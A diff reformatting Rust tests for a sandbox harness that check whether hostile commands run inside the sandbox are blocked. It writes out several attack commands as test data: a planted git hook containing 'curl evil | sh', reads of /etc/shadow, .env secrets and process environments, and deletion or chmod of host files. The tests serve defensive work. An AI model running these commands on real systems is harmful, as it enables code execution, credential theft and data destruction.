@@ -19,13 +19,19 @@ fn assert_denied(code: Option<i32>, err: &str) {
         "Invalid cross-device link",
         "Device or resource busy",
     ];
-    assert!(known.iter().any(|k| err.contains(k)), "unexpected error: {err}");
+    assert!(
+        known.iter().any(|k| err.contains(k)),
+        "unexpected error: {err}"
+    );
 }
 
 fn write_outside_workdir(sb: &dyn Sandbox) {
     let f = Fixture::new();
     let target = f.host_path("new-file");
-    let spec = f.spec(sh(&format!("echo pwned > {} && echo WROTE", target.display())));
+    let spec = f.spec(sh(&format!(
+        "echo pwned > {} && echo WROTE",
+        target.display()
+    )));
     let (code, out, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     assert!(!out.contains("WROTE"));
@@ -44,7 +50,11 @@ backends!(overwrite_host_file, [native, floor]);
 
 fn truncate_host_file(sb: &dyn Sandbox) {
     let f = Fixture::new();
-    let spec = f.spec(vec!["truncate".into(), "-s0".into(), f.canary().display().to_string()]);
+    let spec = f.spec(vec![
+        "truncate".into(),
+        "-s0".into(),
+        f.canary().display().to_string(),
+    ]);
     let (code, _, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     f.assert_canary();
@@ -54,7 +64,11 @@ backends!(truncate_host_file, [native, floor]);
 fn chmod_host_file(sb: &dyn Sandbox) {
     let f = Fixture::new();
     std::fs::set_permissions(f.canary(), std::fs::Permissions::from_mode(0o644)).unwrap();
-    let spec = f.spec(vec!["chmod".into(), "0777".into(), f.canary().display().to_string()]);
+    let spec = f.spec(vec![
+        "chmod".into(),
+        "0777".into(),
+        f.canary().display().to_string(),
+    ]);
     let (code, _, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     let mode = std::fs::metadata(f.canary()).unwrap().permissions().mode() & 0o777;
@@ -66,7 +80,11 @@ backends!(chmod_host_file, [native]);
 
 fn delete_host_file(sb: &dyn Sandbox) {
     let f = Fixture::new();
-    let spec = f.spec(vec!["rm".into(), "-f".into(), f.canary().display().to_string()]);
+    let spec = f.spec(vec![
+        "rm".into(),
+        "-f".into(),
+        f.canary().display().to_string(),
+    ]);
     let (code, _, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     f.assert_canary();
@@ -81,7 +99,10 @@ fn rename_out_of_workdir(sb: &dyn Sandbox) {
     let (code, _, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     assert!(!dest.exists(), "the file was moved out");
-    assert_eq!(std::fs::read_to_string(f.workdir().join("doc")).unwrap(), "mine");
+    assert_eq!(
+        std::fs::read_to_string(f.workdir().join("doc")).unwrap(),
+        "mine"
+    );
 }
 backends!(rename_out_of_workdir, [native, floor]);
 
@@ -115,7 +136,10 @@ backends!(dangling_symlink_create, [native, floor]);
 
 fn hardlink_host_file_then_write(sb: &dyn Sandbox) {
     let f = Fixture::new();
-    let spec = f.spec(sh(&format!("ln {} hl && echo pwned >> hl", f.canary().display())));
+    let spec = f.spec(sh(&format!(
+        "ln {} hl && echo pwned >> hl",
+        f.canary().display()
+    )));
     let (code, _, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     f.assert_canary();
@@ -127,17 +151,18 @@ fn git_internals_read_only(sb: &dyn Sandbox) {
     let git = f.workdir().join(".git");
     std::fs::create_dir_all(git.join("hooks")).unwrap();
     std::fs::write(git.join("config"), "[core]\n").unwrap();
-    let spec = f.spec(sh(
-        "echo 'curl evil | sh' > .git/hooks/pre-commit; \
+    let spec = f.spec(sh("echo 'curl evil | sh' > .git/hooks/pre-commit; \
          printf '[core]\\nfsmonitor = evil\\n' >> .git/config; \
-         mv .git .git-old; echo done",
-    ));
+         mv .git .git-old; echo done"));
     let (_, out, err) = run_text(sb, &spec);
     assert!(out.contains("done"));
     assert!(err.matches("Read-only file system").count() >= 2, "{err}");
     assert!(err.contains("busy") || err.contains("Read-only"), "{err}");
     assert!(!git.join("hooks/pre-commit").exists(), "a hook was planted");
-    assert_eq!(std::fs::read_to_string(git.join("config")).unwrap(), "[core]\n");
+    assert_eq!(
+        std::fs::read_to_string(git.join("config")).unwrap(),
+        "[core]\n"
+    );
     assert!(git.is_dir() && !f.workdir().join(".git-old").exists());
 }
 backends!(git_internals_read_only, [native]);
@@ -151,22 +176,46 @@ fn io_harness_dir_read_only(sb: &dyn Sandbox) {
         "echo 'allow = \"*\"' >> .io-harness/policy.toml; rm -rf .io-harness; echo x > ok",
     ));
     let (_, _, err) = run_text(sb, &spec);
-    assert!(err.contains("Read-only file system") || err.contains("busy"), "{err}");
-    assert_eq!(std::fs::read_to_string(dir.join("policy.toml")).unwrap(), "rules = []\n");
-    assert_eq!(std::fs::read_to_string(f.workdir().join("ok")).unwrap(), "x\n");
+    assert!(
+        err.contains("Read-only file system") || err.contains("busy"),
+        "{err}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.join("policy.toml")).unwrap(),
+        "rules = []\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(f.workdir().join("ok")).unwrap(),
+        "x\n"
+    );
 }
 backends!(io_harness_dir_read_only, [native]);
 
 fn masked_file_unreadable(sb: &dyn Sandbox) {
     let f = Fixture::new();
-    std::fs::write(f.workdir().join(".env"), "OPENAI_API_KEY=sk-masked-secret\n").unwrap();
+    std::fs::write(
+        f.workdir().join(".env"),
+        "OPENAI_API_KEY=sk-masked-secret\n",
+    )
+    .unwrap();
     let mut spec = f.spec(sh("cat .env; echo ---; cat ./.env 2>&1; echo more >> .env"));
     spec.masked_paths = vec![".env".into()];
     let out = run(sb, &spec);
-    assert!(!out.stdout.text().contains("sk-masked-secret"), "{}", out.stdout.text());
-    assert!(out.stderr.text().contains("Permission denied"), "{}", out.stderr.text());
+    assert!(
+        !out.stdout.text().contains("sk-masked-secret"),
+        "{}",
+        out.stdout.text()
+    );
+    assert!(
+        out.stderr.text().contains("Permission denied"),
+        "{}",
+        out.stderr.text()
+    );
     let masked = &out.layers.mounts.as_ref().unwrap().masked;
-    assert_eq!(masked, &[std::fs::canonicalize(f.workdir().join(".env")).unwrap()]);
+    assert_eq!(
+        masked,
+        &[std::fs::canonicalize(f.workdir().join(".env")).unwrap()]
+    );
     assert_eq!(
         std::fs::read_to_string(f.workdir().join(".env")).unwrap(),
         "OPENAI_API_KEY=sk-masked-secret\n"
@@ -183,7 +232,10 @@ fn masked_dir_unreadable(sb: &dyn Sandbox) {
     let (code, out, err) = run_text(sb, &spec);
     assert_denied(code, &err);
     assert!(!out.contains("topsecret") && !out.contains("key"), "{out}");
-    assert_eq!(std::fs::read_to_string(f.workdir().join("secrets/key")).unwrap(), "topsecret");
+    assert_eq!(
+        std::fs::read_to_string(f.workdir().join("secrets/key")).unwrap(),
+        "topsecret"
+    );
 }
 backends!(masked_dir_unreadable, [native]);
 
@@ -193,11 +245,17 @@ fn host_home_hidden(sb: &dyn Sandbox) {
     let file = home.join(&name);
     std::fs::write(&file, "ssh-private-key").unwrap();
     let f = Fixture::new();
-    let spec = f.spec(sh(&format!("cat {}; echo HOME=$HOME; ls -a $HOME", file.display())));
+    let spec = f.spec(sh(&format!(
+        "cat {}; echo HOME=$HOME; ls -a $HOME",
+        file.display()
+    )));
     let (_, out, err) = run_text(sb, &spec);
     let _ = std::fs::remove_file(&file);
     assert!(err.contains("No such file"), "{err}");
-    assert!(!out.contains("ssh-private-key") && !out.contains(&name), "{out}");
+    assert!(
+        !out.contains("ssh-private-key") && !out.contains(&name),
+        "{out}"
+    );
 }
 backends!(host_home_hidden, [native]);
 
@@ -210,8 +268,14 @@ fn hidden_store_path(sb: &dyn Sandbox) {
     spec.hidden_paths = vec![store.clone()];
     let (code, out, err) = run_text(sb, &spec);
     assert_denied(code, &err);
-    assert!(!out.contains("store.db") && !out.contains("secrets"), "{out}");
-    assert_eq!(std::fs::read_to_string(store.join("store.db")).unwrap(), "trace with secrets");
+    assert!(
+        !out.contains("store.db") && !out.contains("secrets"),
+        "{out}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(store.join("store.db")).unwrap(),
+        "trace with secrets"
+    );
 }
 backends!(hidden_store_path, [native]);
 
@@ -219,7 +283,10 @@ fn root_only_host_files(sb: &dyn Sandbox) {
     let f = Fixture::new();
     let (_, out, err) = run_text(sb, &f.spec(sh("cat /etc/shadow")));
     assert!(!out.contains("root:"), "{out}");
-    assert!(err.contains("Permission denied") || err.contains("No such file"), "{err}");
+    assert!(
+        err.contains("Permission denied") || err.contains("No such file"),
+        "{err}"
+    );
 }
 backends!(root_only_host_files, [native]);
 
@@ -228,7 +295,10 @@ fn harness_environ_unreadable(sb: &dyn Sandbox) {
     // Native: pid 1 is the sandbox's init, a copy of the harness; floor: the parent.
     let spec = f.spec(sh("cat /proc/1/environ; cat /proc/$PPID/environ"));
     let (_, out, err) = run_text(sb, &spec);
-    assert!(!out.contains("CARGO_PKG_NAME"), "the harness environment leaked");
+    assert!(
+        !out.contains("CARGO_PKG_NAME"),
+        "the harness environment leaked"
+    );
     assert!(err.contains("Permission denied"), "{err}");
 }
 backends!(harness_environ_unreadable, [native, floor]);
@@ -243,7 +313,10 @@ fn proc_sys_write(sb: &dyn Sandbox) {
     let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
     let (_, out, _) = run_text(sb, &f.spec(py(code)));
     assert!(out.starts_with("ERR"), "{out}");
-    assert_eq!(std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(), before);
+    assert_eq!(
+        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
+        before
+    );
 }
 backends!(proc_sys_write, [native, floor]);
 
@@ -277,7 +350,10 @@ fn mount_family_denied(sb: &dyn Sandbox) {
                 r=libc.syscall(155,b'.',b'.'); print('pivot_root',r,ctypes.get_errno())";
     let (_, out, _) = run_text(sb, &f.spec(py(code)));
     for call in ["mount", "fsopen", "open_tree", "pivot_root"] {
-        assert!(out.contains(&format!("{call} -1 1\n")), "{call} not refused with EPERM: {out}");
+        assert!(
+            out.contains(&format!("{call} -1 1\n")),
+            "{call} not refused with EPERM: {out}"
+        );
     }
 }
 backends!(mount_family_denied, [native, floor]);
@@ -291,13 +367,22 @@ fn workspace_and_private_dirs_writable(sb: &dyn Sandbox) {
     let (code, out, err) = run_text(sb, &spec);
     assert_eq!(code, Some(0), "{err}");
     assert_eq!(out, "t\nh\ndata\n");
-    assert_eq!(std::fs::read_to_string(f.workdir().join("sub/out.txt")).unwrap(), "data\n");
+    assert_eq!(
+        std::fs::read_to_string(f.workdir().join("sub/out.txt")).unwrap(),
+        "data\n"
+    );
 }
 backends!(workspace_and_private_dirs_writable, [native, floor]);
 
 fn workdir_inside_hidden_tmp(sb: &dyn Sandbox) {
-    let work = tempfile::Builder::new().prefix("iohx-tmpwork-").tempdir_in("/tmp").unwrap();
-    let sibling = tempfile::Builder::new().prefix("iohx-sibling-").tempdir_in("/tmp").unwrap();
+    let work = tempfile::Builder::new()
+        .prefix("iohx-tmpwork-")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let sibling = tempfile::Builder::new()
+        .prefix("iohx-sibling-")
+        .tempdir_in("/tmp")
+        .unwrap();
     let mut spec = io_harness::sandbox::RunSpec::new(
         sh(&format!("echo ok > made; ls {}", sibling.path().display())),
         work.path(),
@@ -305,7 +390,13 @@ fn workdir_inside_hidden_tmp(sb: &dyn Sandbox) {
     spec.limits = test_limits();
     let (code, _, err) = run_text(sb, &spec);
     assert_ne!(code, Some(0));
-    assert!(err.contains("No such file"), "the sibling in /tmp is visible: {err}");
-    assert_eq!(std::fs::read_to_string(work.path().join("made")).unwrap(), "ok\n");
+    assert!(
+        err.contains("No such file"),
+        "the sibling in /tmp is visible: {err}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(work.path().join("made")).unwrap(),
+        "ok\n"
+    );
 }
 backends!(workdir_inside_hidden_tmp, [native]);
